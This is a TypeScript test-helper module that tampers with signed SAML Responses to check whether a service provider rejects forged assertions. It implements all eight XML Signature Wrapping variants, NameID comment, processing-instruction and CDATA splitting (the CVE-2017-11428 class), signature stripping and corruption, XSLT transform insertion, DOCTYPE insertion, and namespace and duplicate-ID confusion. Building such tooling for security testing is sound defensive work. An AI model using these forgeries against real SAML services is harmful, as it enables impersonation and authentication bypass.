/**
 * Pure helpers that turn a genuine signed Response (XML text from saml-idp-signer) into an attack.
 * Edits go through @xmldom/xmldom so that namespaces and escaping stay right; re-serializing an
 * untouched document keeps every signature valid (exclusive c14n ignores serialization details).
 *
 * Every helper throws when its target is missing, so a test cannot pass on a tamper that did nothing.
 */
import { randomBytes } from 'node:crypto';
import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

const NS = {
  samlp: 'urn:oasis:names:tc:SAML:2.0:protocol',
  saml: 'urn:oasis:names:tc:SAML:2.0:assertion',
  ds: 'http://www.w3.org/2000/09/xmldsig#',
} as const;

/** Which signatures a helper acts on: the Response's own, the Assertion's, or every one. */
export type SignatureScope = 'all' | 'response' | 'assertion';

/** Options for {@link wrapAssertion}. */
export interface WrapOptions {
  /** NameID of the unsigned evil assertion put where the signed one was. */
  nameId: string;
  /**
   * Where the genuine assertion is hidden. `extensions` (default): in `samlp:Extensions` of the
   * Response. `object`: in a `ds:Object` inside the signature the evil copy carries (XSW 7/8 style).
   */
  container?: 'extensions' | 'object';
  /** Let the evil copy carry a copy of the genuine `ds:Signature`. Default false; implied by `object`. */
  keepSignature?: boolean;
  /** Give the evil copy the genuine assertion's ID instead of a new one. Default false. */
  sameId?: boolean;
}

/** Options for {@link duplicateAssertion}. */
export interface DuplicateOptions {
  /** Change the copy's NameID (its signature, if any, is kept and no longer matches). */
  nameId?: string;
  /** Where the copy goes relative to the genuine assertion. Default `after`. */
  position?: 'before' | 'after';
}

/** Sets the text of the NameID in every top-level Assertion (after signing, so digests break). */
export function replaceNameId(xml: string, newValue: string): string {
  return edit(xml, (doc) => {
    const assertions = assertionsOf(doc);
    if (assertions.length === 0) throw new Error('saml-tamper: no saml:Assertion in the Response');
    for (const assertion of assertions) nameIdOf(assertion).textContent = newValue;
  });
}

/** Removes the signatures in scope (default: every `ds:Signature` in the document). */
export function stripSignatures(xml: string, scope: SignatureScope = 'all'): string {
  return edit(xml, (doc) => {
    for (const sig of signaturesIn(doc, scope)) sig.parentNode?.removeChild(sig);
  });
}

/** Flips one bit in the middle of each SignatureValue in scope; the base64 stays well-formed. */
export function corruptSignatureValue(xml: string, scope: SignatureScope = 'all'): string {
  return edit(xml, (doc) => {
    for (const sig of signaturesIn(doc, scope)) {
      const value = only(childrenNS(sig, NS.ds, 'SignatureValue'), 'ds:SignatureValue');
      const bytes = Buffer.from(value.textContent ?? '', 'base64');
      const middle = Math.floor(bytes.length / 2);
      bytes[middle] = (bytes[middle] ?? 0) ^ 0x01;
      value.textContent = bytes.toString('base64');
    }
  });
}

/**
 * Signature wrapping (XSW): the genuine signed assertion is hidden in `samlp:Extensions` or a
 * `ds:Object`, and an evil copy with another NameID takes its place as the Response's Assertion.
 */
export function wrapAssertion(xml: string, evil: WrapOptions): string {
  return edit(xml, (doc) => {
    const root = doc.documentElement;
    const genuine = only(assertionsOf(doc), 'saml:Assertion');
    const copy = evilCopy(genuine, evil);
    root.replaceChild(copy, genuine);
    if (evil.container === 'object') {
      const object = doc.createElementNS(NS.ds, 'ds:Object');
      object.appendChild(genuine);
      only(childrenNS(copy, NS.ds, 'Signature'), 'ds:Signature in the evil copy').appendChild(object);
    } else {
      const extensions = doc.createElementNS(NS.samlp, 'samlp:Extensions');
      extensions.appendChild(genuine);
      root.insertBefore(extensions, firstAfterIssuerAndSignature(root));
    }
  });
}

/** Adds a second Assertion to the Response: a copy of the genuine one, optionally with another NameID. */
export function duplicateAssertion(xml: string, opts: DuplicateOptions = {}): string {
  return edit(xml, (doc) => {
    const genuine = only(assertionsOf(doc), 'saml:Assertion');
    const copy = genuine.cloneNode(true) as Element;
    if (opts.nameId !== undefined) nameIdOf(copy).textContent = opts.nameId;
    const before = opts.position === 'before' ? genuine : genuine.nextSibling;
    doc.documentElement.insertBefore(copy, before);
  });
}

/** Inserts a document type declaration (e.g. `<!DOCTYPE r [<!ENTITY x "y">]>`) after the XML declaration. */
export function addDoctype(xml: string, doctype: string): string {
  if (!doctype.startsWith('<!DOCTYPE')) throw new Error('saml-tamper: doctype must start with <!DOCTYPE');
  const declaration = /^<\?xml[^>]*\?>/.exec(xml)?.[0] ?? '';
  return `${declaration}${doctype}${xml.slice(declaration.length)}`;
}

/**
 * Splits the first Assertion's NameID text with an empty comment, the CVE-2017-11428 family:
 * c14n drops comments so the signature still verifies, while a parser reading only the first
 * text node sees a shorter name. `at` is the prefix kept before the comment, or an offset; by
 * default the comment goes before the second-to-last dot
 * (`alice@example.com.evil.com` becomes `alice@example.com<!---->.evil.com`).
 */
export function injectComment(xml: string, at?: string | number): string {
  return edit(xml, (doc) => {
    const nameId = nameIdOf(only(assertionsOf(doc), 'saml:Assertion'));
    const text = nameId.textContent ?? '';
    const cut = commentOffset(text, at);
    while (nameId.firstChild) nameId.removeChild(nameId.firstChild);
    nameId.appendChild(doc.createTextNode(text.slice(0, cut)));
    nameId.appendChild(doc.createComment(''));
    nameId.appendChild(doc.createTextNode(text.slice(cut)));
  });
}

/** The identity field an injection targets: the Subject's NameID, or one attribute's values. */
export type IdentityField = { nameId: true } | { attribute: string };

/** What {@link injectNode} puts into the field's text. */
export type HiddenNode = 'comment' | 'processing-instruction' | 'cdata';

/**
 * Splits the text of an identity field (NameID, or every value of one attribute) with an empty
 * comment or a processing instruction (`<?x ?>`), or puts the rest of the text in a CDATA
 * section, at `at` as in {@link injectComment}. c14n turns CDATA into text, so a CDATA split
 * keeps the signature too. Applied
 * after signing, the signature still verifies (exclusive c14n without comments drops comments, and
 * node-saml's reader may see only the first text node); applied before signing (then re-signed with
 * `signResponseXml`), the IdP itself signed the split value (the Duo 2018 class of bugs).
 */
export function injectNode(xml: string, field: IdentityField, node: HiddenNode, at?: string | number): string {
  return edit(xml, (doc) => {
    const assertion = only(assertionsOf(doc), 'saml:Assertion');
    const targets = 'nameId' in field ? [nameIdOf(assertion)] : attributeValuesOf(assertion, field.attribute);
    for (const el of targets) {
      const text = el.textContent ?? '';
      const cut = commentOffset(text, at);
      while (el.firstChild) el.removeChild(el.firstChild);
      el.appendChild(doc.createTextNode(text.slice(0, cut)));
      // An empty CDATA section does not survive a parse (xmldom drops it): it holds the rest instead.
      if (node === 'cdata') el.appendChild(doc.createCDATASection(text.slice(cut)));
      else {
        el.appendChild(node === 'comment' ? doc.createComment('') : doc.createProcessingInstruction('x', ''));
        el.appendChild(doc.createTextNode(text.slice(cut)));
      }
    }
  });
}

/** Flips one bit in the middle of each DigestValue in scope: the reference no longer matches. */
export function corruptDigestValue(xml: string, scope: SignatureScope = 'all'): string {
  return edit(xml, (doc) => {
    for (const sig of signaturesIn(doc, scope)) {
      const signedInfo = only(childrenNS(sig, NS.ds, 'SignedInfo'), 'ds:SignedInfo');
      for (const value of Array.from(signedInfo.getElementsByTagNameNS(NS.ds, 'DigestValue'))) {
        const bytes = Buffer.from(value.textContent ?? '', 'base64');
        const middle = Math.floor(bytes.length / 2);
        bytes[middle] = (bytes[middle] ?? 0) ^ 0x01;
        value.textContent = bytes.toString('base64');
      }
    }
  });
}

/*
 * XML Signature Wrapping, the eight variants of Somorovsky et al., "On Breaking SAML: Be Whoever
 * You Want to Be" (USENIX Security 2012), as SAML Raider implements them (XSWHelpers.applyXSW1-8).
 * In each, the element the IdP signed survives byte for byte (so a verifier that only checks
 * "some signature over some element with the referenced ID is valid" still says yes) while an
 * evil element with `evilNameId` (NameID and every attribute value that named the user) sits where
 * an SP's data extraction may read it. Unlike SAML Raider, the evil copy never keeps the signed
 * element's ID (XSW7 and XSW8 included): with two equal IDs xml-crypto refuses the document
 * outright, and we want the strongest form, the one that passes naive signature checking.
 */

/**
 * XSW1 (signed Response): the root becomes an evil Response (new ID, evil assertion without its
 * signature); an unsigned copy of the genuine Response is appended INSIDE the Response's
 * ds:Signature, where the signature's Reference (#original-ID) now finds it.
 */
export function xsw1(xml: string, evilNameId: string): string {
  return edit(xml, (doc) => wrapResponse(doc, evilNameId, (sig, original) => sig.appendChild(original)));
}

/**
 * XSW2 (signed Response): as XSW1, but the unsigned genuine Response copy goes right BEFORE the
 * ds:Signature, as a sibling (a detached signature over a sibling element).
 */
export function xsw2(xml: string, evilNameId: string): string {
  return edit(xml, (doc) => wrapResponse(doc, evilNameId, (sig, original) => sig.parentNode!.insertBefore(original, sig)));
}

/**
 * XSW3 (signed Assertion): an unsigned evil copy of the Assertion (new ID) is inserted BEFORE the
 * genuine signed one, as the Response's first Assertion.
 */
export function xsw3(xml: string, evilNameId: string): string {
  return edit(xml, (doc) => {
    const genuine = only(assertionsOf(doc), 'saml:Assertion');
    doc.documentElement.insertBefore(evilAssertion(genuine, evilNameId, false), genuine);
  });
}

/**
 * XSW4 (signed Assertion): an unsigned evil copy (new ID) takes the genuine Assertion's place,
 * and the genuine signed Assertion is moved INSIDE the evil one as its last child.
 */
export function xsw4(xml: string, evilNameId: string): string {
  return edit(xml, (doc) => {
    const genuine = only(assertionsOf(doc), 'saml:Assertion');
    const evil = evilAssertion(genuine, evilNameId, false);
    doc.documentElement.replaceChild(evil, genuine);
    evil.appendChild(genuine);
  });
}

/**
 * XSW5 (signed Assertion): the signed Assertion itself is edited (new ID, evil NameID) and keeps
 * its ds:Signature; an unsigned copy of the genuine Assertion is appended at the END of the
 * Response, where the Reference (#original-ID) finds it.
 */
export function xsw5(xml: string, evilNameId: string): string {
  return edit(xml, (doc) => {
    const { original } = hijackAssertion(doc, evilNameId);
    doc.documentElement.appendChild(original);
  });
}

/**
 * XSW6 (signed Assertion): as XSW5, but the unsigned genuine copy goes INSIDE the evil
 * Assertion's ds:Signature (after KeyInfo).
 */
export function xsw6(xml: string, evilNameId: string): string {
  return edit(xml, (doc) => {
    const { signature, original } = hijackAssertion(doc, evilNameId);
    signature.appendChild(original);
  });
}

/**
 * XSW7 (signed Assertion): a `samlp:Extensions` element is inserted before the genuine signed
 * Assertion, holding an unsigned evil copy (new ID). The genuine Assertion stays where it was and
 * verifies; an SP that reads "the first Assertion in the document" reads the evil one.
 */
export function xsw7(xml: string, evilNameId: string): string {
  return edit(xml, (doc) => {
    const genuine = only(assertionsOf(doc), 'saml:Assertion');
    const extensions = doc.createElementNS(NS.samlp, 'samlp:Extensions');
    extensions.appendChild(evilAssertion(genuine, evilNameId, false));
    doc.documentElement.insertBefore(extensions, genuine);
  });
}

/**
 * XSW8 (signed Assertion): as XSW6, but the unsigned genuine copy is wrapped in a `ds:Object`
 * inside the evil Assertion's ds:Signature (where XML-DSig allows arbitrary content).
 */
export function xsw8(xml: string, evilNameId: string): string {
  return edit(xml, (doc) => {
    const { signature, original } = hijackAssertion(doc, evilNameId);
    const object = doc.createElementNS(NS.ds, 'ds:Object');
    object.appendChild(original);
    signature.appendChild(object);
  });
}

/**
 * Adds a transform with `algorithm` (e.g. XSLT) to every Reference in scope, after signing: a
 * verifier that runs transforms before checking the SignatureValue runs attacker code (XSLT DoS,
 * CVE-2021-3839-style). `content` is put inside the ds:Transform as XML.
 */
export function addTransform(xml: string, algorithm: string, content: string, scope: SignatureScope = 'all'): string {
  const marked = edit(xml, (doc) => {
    for (const sig of signaturesIn(doc, scope)) {
      for (const transforms of Array.from(sig.getElementsByTagNameNS(NS.ds, 'Transforms'))) {
        const t = doc.createElementNS(NS.ds, 'ds:Transform');
        t.setAttribute('Algorithm', algorithm);
        t.appendChild(doc.createTextNode('@@TRANSFORM@@'));
        transforms.appendChild(t);
      }
    }
  });
  return marked.split('@@TRANSFORM@@').join(content);
}

/** The eight XSW variants by name, for tables of tests. */
export const XSW = { xsw1, xsw2, xsw3, xsw4, xsw5, xsw6, xsw7, xsw8 } as const;

/**
 * Moves the ds:Signature of the element with ID `ownerId` (something the IdP really signed, such
 * as a LogoutResponse planted in `samlp:Extensions`) into the Assertion, after its Issuer: the
 * assertion now carries a valid IdP signature whose Reference names another element.
 */
export function moveSignatureIntoAssertion(xml: string, ownerId: string): string {
  return edit(xml, (doc) => {
    const assertion = only(assertionsOf(doc), 'saml:Assertion');
    const owner = Array.from(doc.getElementsByTagName('*')).filter((e) => e.getAttribute('ID') === ownerId);
    const signature = only(childrenNS(only(owner, `element with ID ${ownerId}`), NS.ds, 'Signature'), 'ds:Signature of the owner');
    const issuer = only(childrenNS(assertion, NS.saml, 'Issuer'), 'assertion saml:Issuer');
    for (const sig of childrenNS(assertion, NS.ds, 'Signature')) assertion.removeChild(sig);
    assertion.insertBefore(signature, issuer.nextSibling);
  });
}

/**
 * Puts into a new `samlp:Extensions` of the Response an unsigned `samlp:LogoutResponse` from the
 * IdP with ID `id` (to be signed by the test IdP with `signElement`): an element the IdP signs
 * in the normal course of things that is not an assertion.
 */
export function plantLogoutResponse(xml: string, id: string, issuer: string): string {
  return edit(xml, (doc) => {
    const root = doc.documentElement;
    const extensions = doc.createElementNS(NS.samlp, 'samlp:Extensions');
    const lr = doc.createElementNS(NS.samlp, 'samlp:LogoutResponse');
    for (const [k, v] of [['ID', id], ['Version', '2.0'], ['IssueInstant', new Date().toISOString()]] as const) lr.setAttribute(k, v);
    const iss = doc.createElementNS(NS.saml, 'saml:Issuer');
    iss.textContent = issuer;
    const status = doc.createElementNS(NS.samlp, 'samlp:Status');
    const code = doc.createElementNS(NS.samlp, 'samlp:StatusCode');
    code.setAttribute('Value', 'urn:oasis:names:tc:SAML:2.0:status:Success');
    status.appendChild(code);
    lr.appendChild(iss);
    lr.appendChild(status);
    extensions.appendChild(lr);
    root.insertBefore(extensions, firstAfterIssuerAndSignature(root));
  });
}

/** Gives the (unsigned) Response the Assertion's ID: two elements answer to one Reference. */
export function reuseAssertionIdOnResponse(xml: string): string {
  return edit(xml, (doc) => {
    const id = only(assertionsOf(doc), 'saml:Assertion').getAttribute('ID');
    if (!id) throw new Error('saml-tamper: assertion without ID');
    doc.documentElement.setAttribute('ID', id);
  });
}

/**
 * Writes the ID attribute twice on the Assertion's start tag (`ID="_evil" ID="<genuine>"`): a
 * well-formedness error that lenient parsers resolve differently (first or last wins). Text-level,
 * since a DOM cannot hold it.
 */
export function duplicateIdAttribute(xml: string): string {
  const tag = /<saml:Assertion\b[^>]*\sID="([^"]+)"/.exec(xml);
  if (!tag) throw new Error('saml-tamper: no saml:Assertion start tag with an ID');
  return xml.replace(tag[0], tag[0].replace(/\sID="/, ' ID="_evil" ID="'));
}

/**
 * Namespace confusion: puts before the genuine Assertion an evil unsigned copy whose elements
 * are in namespace `ns` (by re-binding the `saml` prefix on the copy), so that a reader matching
 * on local names (`Assertion`, `NameID`) sees two assertions while a namespace-aware one sees one.
 */
export function addForeignNamespaceAssertion(xml: string, ns: string, evilNameId: string): string {
  let evilId = '';
  const out = edit(xml, (doc) => {
    const genuine = only(assertionsOf(doc), 'saml:Assertion');
    const evil = evilAssertion(genuine, evilNameId, false);
    evilId = evil.getAttribute('ID')!;
    doc.documentElement.insertBefore(evil, genuine);
  });
  const marker = `<saml:Assertion xmlns:xsi`;
  const at = out.indexOf(`ID="${evilId}"`);
  const start = out.lastIndexOf('<saml:Assertion', at);
  if (at < 0 || start < 0 || !out.startsWith(marker, start)) throw new Error('saml-tamper: evil copy not found');
  return `${out.slice(0, start)}<saml:Assertion xmlns:saml="${ns}"${out.slice(start + '<saml:Assertion'.length)}`;
}

/**
 * Adds an EncryptedAssertion (opaque, well-formed EncryptedData) beside the genuine Assertion:
 * a Response must carry exactly one of the two (SAML core 2.3.4 / profiles 4.1.4.2).
 */
export function addEncryptedAssertion(xml: string): string {
  return edit(xml, (doc) => {
    const genuine = only(assertionsOf(doc), 'saml:Assertion');
    const enc = doc.createElementNS(NS.saml, 'saml:EncryptedAssertion');
    const data = doc.createElementNS('http://www.w3.org/2001/04/xmlenc#', 'xenc:EncryptedData');
    data.setAttribute('Type', 'http://www.w3.org/2001/04/xmlenc#Element');
    const cipher = doc.createElementNS('http://www.w3.org/2001/04/xmlenc#', 'xenc:CipherData');
    const value = doc.createElementNS('http://www.w3.org/2001/04/xmlenc#', 'xenc:CipherValue');
    value.textContent = randomBytes(64).toString('base64');
    cipher.appendChild(value);
    data.appendChild(cipher);
    enc.appendChild(data);
    doc.documentElement.insertBefore(enc, genuine.nextSibling);
  });
}

/**
 * Re-encodes the XML as UTF-16 (little-endian), with the encoding declaration changed to say so
 * and, when `bom`, a byte-order mark: base64 of bytes that are not UTF-8.
 */
export function encodeUtf16(xml: string, bom: boolean): string {
  const text = xml.replace(/^<\?xml([^>]*)encoding="[^"]*"/, '<?xml$1encoding="UTF-16"');
  if (text === xml) throw new Error('saml-tamper: no encoding declaration to change');
  const body = Buffer.from(text, 'utf16le');
  return Buffer.concat([bom ? Buffer.from([0xff, 0xfe]) : Buffer.alloc(0), body]).toString('base64');
}

/** Changes the XML declaration's encoding label only (the bytes stay UTF-8). */
export function declareEncoding(xml: string, encoding: string): string {
  const out = xml.replace(/^(<\?xml[^>]*encoding=")[^"]*"/, `$1${encoding}"`);
  if (out === xml) throw new Error('saml-tamper: no encoding declaration to change');
  return out;
}

/** Parses, then serializes again, changing nothing: the control that the tamper round trip is harmless. */
export function roundTrip(xml: string): string {
  return edit(xml, () => undefined);
}

function wrapResponse(doc: Document, evilNameId: string, place: (signature: Element, original: Element) => void): void {
  const root = doc.documentElement;
  const signature = only(childrenNS(root, NS.ds, 'Signature'), 'Response ds:Signature');
  const original = root.cloneNode(true) as Element;
  for (const sig of childrenNS(original, NS.ds, 'Signature')) original.removeChild(sig);
  const genuine = only(assertionsOf(doc), 'saml:Assertion');
  root.replaceChild(evilAssertion(genuine, evilNameId, false), genuine);
  root.setAttribute('ID', evilId('response'));
  place(signature, original);
}

/** Edits the signed Assertion in place (new ID, evil identity, signature kept); returns its signature and an unsigned genuine copy. */
function hijackAssertion(doc: Document, evilNameId: string): { signature: Element; original: Element } {
  const assertion = only(assertionsOf(doc), 'saml:Assertion');
  const original = assertion.cloneNode(true) as Element;
  for (const sig of childrenNS(original, NS.ds, 'Signature')) original.removeChild(sig);
  const signature = only(childrenNS(assertion, NS.ds, 'Signature'), 'Assertion ds:Signature');
  makeEvil(assertion, evilNameId);
  assertion.setAttribute('ID', evilId('assertion'));
  return { signature, original };
}

/** A copy of `genuine` with a new ID and the evil identity; with or without its signature. */
function evilAssertion(genuine: Element, evilNameId: string, keepSignature: boolean): Element {
  const copy = genuine.cloneNode(true) as Element;
  if (!keepSignature) for (const sig of childrenNS(copy, NS.ds, 'Signature')) copy.removeChild(sig);
  makeEvil(copy, evilNameId);
  copy.setAttribute('ID', evilId('assertion'));
  return copy;
}

/** Replaces the NameID and every attribute value equal to it (the email) with `evilNameId`. */
function makeEvil(assertion: Element, evilNameId: string): void {
  const nameId = nameIdOf(assertion);
  const old = nameId.textContent ?? '';
  nameId.textContent = evilNameId;
  for (const v of Array.from(assertion.getElementsByTagNameNS(NS.saml, 'AttributeValue'))) {
    if (v.textContent === old) v.textContent = evilNameId;
  }
}

function evilId(what: string): string {
  return `_evil_${what}_${randomBytes(12).toString('hex')}`;
}

function attributeValuesOf(assertion: Element, name: string): Element[] {
  const attrs = Array.from(assertion.getElementsByTagNameNS(NS.saml, 'Attribute')).filter((a) => a.getAttribute('Name') === name);
  const values = only(attrs, `saml:Attribute ${name}`).getElementsByTagNameNS(NS.saml, 'AttributeValue');
  if (values.length === 0) throw new Error(`saml-tamper: attribute ${name} has no value`);
  return Array.from(values);
}

function commentOffset(text: string, at: string | number | undefined): number {
  if (typeof at === 'number') return at;
  if (typeof at === 'string') {
    if (!text.startsWith(at)) throw new Error(`saml-tamper: NameID does not start with ${at}`);
    return at.length;
  }
  const secondToLastDot = text.lastIndexOf('.', text.lastIndexOf('.') - 1);
  return secondToLastDot > 0 ? secondToLastDot : Math.floor(text.length / 2);
}

function evilCopy(genuine: Element, evil: WrapOptions): Element {
  const copy = genuine.cloneNode(true) as Element;
  nameIdOf(copy).textContent = evil.nameId;
  if (!evil.sameId) copy.setAttribute('ID', `_evil${randomBytes(16).toString('hex')}`);
  const keep = evil.keepSignature === true || evil.container === 'object';
  if (!keep) for (const sig of childrenNS(copy, NS.ds, 'Signature')) copy.removeChild(sig);
  return copy;
}

/** The first child after the Response's Issuer and Signature: where Extensions goes (Core 3.2.2). */
function firstAfterIssuerAndSignature(root: Element): Node | null {
  let node = root.firstChild;
  while (node && (isElement(node, NS.saml, 'Issuer') || isElement(node, NS.ds, 'Signature'))) {
    node = node.nextSibling;
  }
  return node;
}

function signaturesIn(doc: Document, scope: SignatureScope): Element[] {
  const found = scope === 'all' ? Array.from(doc.getElementsByTagNameNS(NS.ds, 'Signature'))
    : scope === 'response' ? childrenNS(doc.documentElement, NS.ds, 'Signature')
      : assertionsOf(doc).flatMap((a) => childrenNS(a, NS.ds, 'Signature'));
  if (found.length === 0) throw new Error(`saml-tamper: no ds:Signature in scope ${scope}`);
  return found;
}

function assertionsOf(doc: Document): Element[] {
  return childrenNS(doc.documentElement, NS.saml, 'Assertion');
}

function nameIdOf(assertion: Element): Element {
  const subject = only(childrenNS(assertion, NS.saml, 'Subject'), 'saml:Subject');
  return only(childrenNS(subject, NS.saml, 'NameID'), 'saml:NameID');
}

function childrenNS(parent: Element, ns: string, localName: string): Element[] {
  return Array.from(parent.childNodes).filter((n): n is Element => isElement(n, ns, localName));
}

function isElement(node: Node, ns: string, localName: string): node is Element {
  const el = node as Element;
  return node.nodeType === 1 && el.namespaceURI === ns && el.localName === localName;
}

function only<T>(items: T[], what: string): T {
  const [first] = items;
  if (items.length !== 1 || first === undefined) {
    throw new Error(`saml-tamper: expected exactly one ${what}, found ${items.length}`);
  }
  return first;
}

function edit(xml: string, change: (doc: Document) => void): string {
  const doc = parse(xml);
  change(doc);
  return new XMLSerializer().serializeToString(doc);
}

function parse(xml: string): Document {
  const fail = (msg: unknown): never => {
    throw new Error(`saml-tamper: cannot parse XML: ${String(msg)}`);
  };
  return new DOMParser({ errorHandler: { error: fail, fatalError: fail } }).parseFromString(xml, 'text/xml');
}
